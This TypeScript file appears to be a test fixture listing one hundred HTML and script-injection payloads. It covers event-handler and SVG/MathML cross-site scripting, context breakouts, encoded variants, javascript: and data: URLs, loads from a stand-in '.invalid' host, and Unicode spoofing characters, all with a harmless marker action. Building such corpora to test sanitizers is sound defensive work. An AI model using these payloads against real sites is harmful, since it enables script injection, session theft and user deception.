// A hundred texts that have caused execution, loading or breakage somewhere: in script, attributes,
// URLs, style, JSON inside pages, templates, and text rendering.

/** A host that nothing may ever load from. */
export const ELSEWHERE = "elsewhere.invalid";

const RUN = "top.ran=1";
const URL = `//${ELSEWHERE}/x`;

/** Markup that runs script when it is parsed into elements. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=${URL}></script>`,
  `<script type=module>import "${URL}"</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img/src="x"/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}><a><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<object data=${URL}></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src=${URL}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src=${URL}></iframe>`,
  `<frameset onload=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} style="position:fixed;inset:0;z-index:99999">`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>`,
  `<button popovertarget=x onbeforetoggle=${RUN}>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
];

/** Texts that break out of their context. */
const BREAKS = [
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `</pre></main></body></html><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `--!><img src=x onerror=${RUN}>`,
  `<!--<script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `]]><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `"'\`><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover='${RUN}`,
  `\` onmouseover=${RUN} \``,
  `" style="position:fixed;inset:0;background:url(${URL})`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\';${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\\u003cscript>${RUN}\\u003c/script>`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `before\u2028after\u2029end`,
];

/** Texts that load from or link to other sites. */
const LOADS = [
  `<img src=${URL}>`,
  `<img srcset="${URL} 2x">`,
  `<picture><source srcset=${URL}><img></picture>`,
  `<image href=${URL}>`,
  `<link rel=stylesheet href=${URL}>`,
  `<link rel=preload as=image href=${URL}>`,
  `<link rel=dns-prefetch href=${URL}>`,
  `<style>@import "${URL}";*{background:url(${URL})}</style>`,
  `<div style="background:url(${URL})">`,
  `<video poster=${URL} src=${URL} autoplay></video>`,
  `<track src=${URL}>`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href=${URL}>`,
  `<base target=_top>`,
  `<form action=${URL}><input name=x>`,
  `<a href="${URL}" ping="${URL}">x</a>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" \u0001java\tscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
];

/** Texts that make other text look different from what it is. */
const DISGUISES = [
  `\u202Egnp.exe\u202C`,
  `\u2066\u2067right\u2069\u2069`,
  `admin\u200B\u200D\uFEFF`,
  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0310\u0364lgo`,
];

/** All hundred texts. */
export const PAYLOADS = [...ELEMENTS, ...BREAKS, ...LOADS, ...DISGUISES];
